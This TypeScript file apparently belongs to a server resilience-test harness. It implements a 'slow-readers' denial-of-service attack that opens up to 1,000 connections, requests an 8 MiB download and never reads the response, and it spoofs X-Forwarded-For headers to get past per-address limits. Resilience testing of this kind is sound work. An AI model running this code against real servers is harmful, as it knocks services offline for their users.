import { readFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../target';

/** One address may have 512 downloads at a time. */
const ADDRESSES = 4;
const A_BEAT = 50;
const BEAT_MS = 20;

/** Each takes a descriptor here, and two of the server: its connection and its file. */
function connections(): number {
  const [, limit = '1024'] = /^Max open files\s+(\d+)/m.exec(readFileSync('/proc/self/limits', 'utf8')) ?? [];
  return Math.min(1_000, Math.floor(Number(limit) / 3));
}

export const slowReaders: Attack = {
  name: 'slow-readers',
  does: 'asks for a bundle of 8 MiB on up to 1,000 connections and reads nothing',
  async run(target, signal) {
    for (let opened = 0; opened < connections() && !signal.aborted; opened += 1) {
      const socket = target.socket({ reads: false });
      socket.pause();
      socket.write(
        `GET ${target.scene.download} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 10.6.${target.round}.${opened % ADDRESSES}\r\n\r\n`,
      );
      if (opened % A_BEAT === A_BEAT - 1) await delay(BEAT_MS, undefined, { signal }).catch(() => undefined);
    }
  },
};
